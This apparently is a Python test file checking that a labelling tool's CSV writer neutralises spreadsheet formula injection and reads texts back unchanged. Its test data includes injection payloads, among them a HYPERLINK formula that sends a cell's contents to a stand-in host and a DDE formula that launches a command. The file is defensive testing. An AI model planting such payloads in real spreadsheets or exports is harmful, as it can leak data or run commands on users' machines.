"""A CSV for people runs no formula in a spreadsheet, and its texts are read back as they were, sign by sign."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from deal_core.data.answer_files import survey_rows
from deal_core.data.reading.csv_records import GUARD_COLUMN, guarded, unguarded
from deal_core.data.reading.readers import read_rows
from tasks.monitoring.select import _write_new
from tests.built import check
from tests.hypothesis_settings import SHARED_FIXTURES

ATTACKS = [
    *("=1+1", '=HYPERLINK("http://x.example/?a="&A1,"open")', "=cmd|' /C calc'!A0", "+1", "-2+3", "@SUM(A1)"),
    *("\t=1", "\r=1", "\n=1", "＝1+1", "- a list", "'=1", "''=1", "'-"),
]
HARMLESS = ["", "text", "'quoted'", "'tis", "''", " =1", "a=1", '"=1"', "1-1", "don't"]
MARKS = ["true", "TRUE", " True "]
CHARACTERS = st.text(st.sampled_from("'=+-@\t\r\n\"',; aé＝\u00a0"), max_size=8)


@settings(SHARED_FIXTURES, max_examples=30)
@given(st.lists(CHARACTERS | st.text(st.characters(exclude_categories=["Cs"]), max_size=5), min_size=1, max_size=6))
@example(ATTACKS)
@example(HARMLESS)
@example([*ATTACKS, *HARMLESS])
def test_every_text_comes_back_as_it_was_and_none_is_a_formula(tmp_path: Path, texts: list[str]) -> None:
    path = tmp_path / "to-label.csv"
    path.unlink(missing_ok=True)
    _write_new(path, [{"id": "", "text": text, "label": "", "is_random": True} for text in texts])
    with path.open(encoding="utf-8-sig", newline="") as stream:
        assert not any(cell[:1] in {*"=+-@\t\r\n＝＋－＠"} for record in csv.reader(stream) for cell in record)
    assert [row.values["text"] for row in read_rows(path)] == texts


def test_only_what_a_spreadsheet_runs_is_changed_and_a_file_without_it_has_no_mark(tmp_path: Path) -> None:
    assert guarded([{"text": text} for text in HARMLESS]) == [{"text": text} for text in HARMLESS]
    marked = guarded([{"text": text, "label": ""} for text in (*ATTACKS, "text")])
    assert [row["text"] for row in marked] == [*(f"'{text}" for text in ATTACKS), "text"]
    assert [row[GUARD_COLUMN] for row in marked] == [*["true"] * len(ATTACKS), "false"]
    (tmp_path / "ordinary.csv").write_text("text,label\n'=1,a\n'- b,b\n")
    assert [row.values["text"] for row in read_rows(tmp_path / "ordinary.csv")] == ["'=1", "'- b"]


@pytest.mark.parametrize(
    ("row", "read"),
    [
        *(({"text": "'=1", "label": "b", GUARD_COLUMN: mark}, {"text": "=1", "label": "b"}) for mark in MARKS),
        *(({"text": "=1", GUARD_COLUMN: mark}, {"text": "=1"}) for mark in MARKS),
        *(({"text": "'=1", "o": "'-", GUARD_COLUMN: no}, {"text": "'=1", "o": "'-"}) for no in ("false", "", "no")),
        ({"text": "'=1", "other": "'-"}, {"text": "'=1", "other": "'-"}),
    ],
)
def test_an_apostrophe_goes_only_where_the_mark_says_so(row: dict[str, str], read: dict[str, str]) -> None:
    """A spreadsheet may write the mark anew, and may drop the apostrophe."""
    assert unguarded(row) == read


def test_a_labelled_file_is_learned_and_the_mark_is_no_column(tmp_path: Path) -> None:
    path, texts = tmp_path / "labelled.csv", [f"{'=-+@'[number % 4]}{number} off" for number in range(60)]
    _write_new(path, [{"id": "", "text": text, "label": "ab"[number % 2]} for number, text in enumerate(texts)])
    kept: list[str] = []
    found = check(path, on_rows=lambda rows: kept.extend(rows.column("input").to_pylist())).manifest
    assert (found.num_rejected, found.task.format) == (0, "labelled")
    assert found.num_train == len(kept) > 25 and {*kept} <= {*texts}
    assert [*survey_rows(path).types] == ["id", "text", "label"], "files of answers do not repeat it"
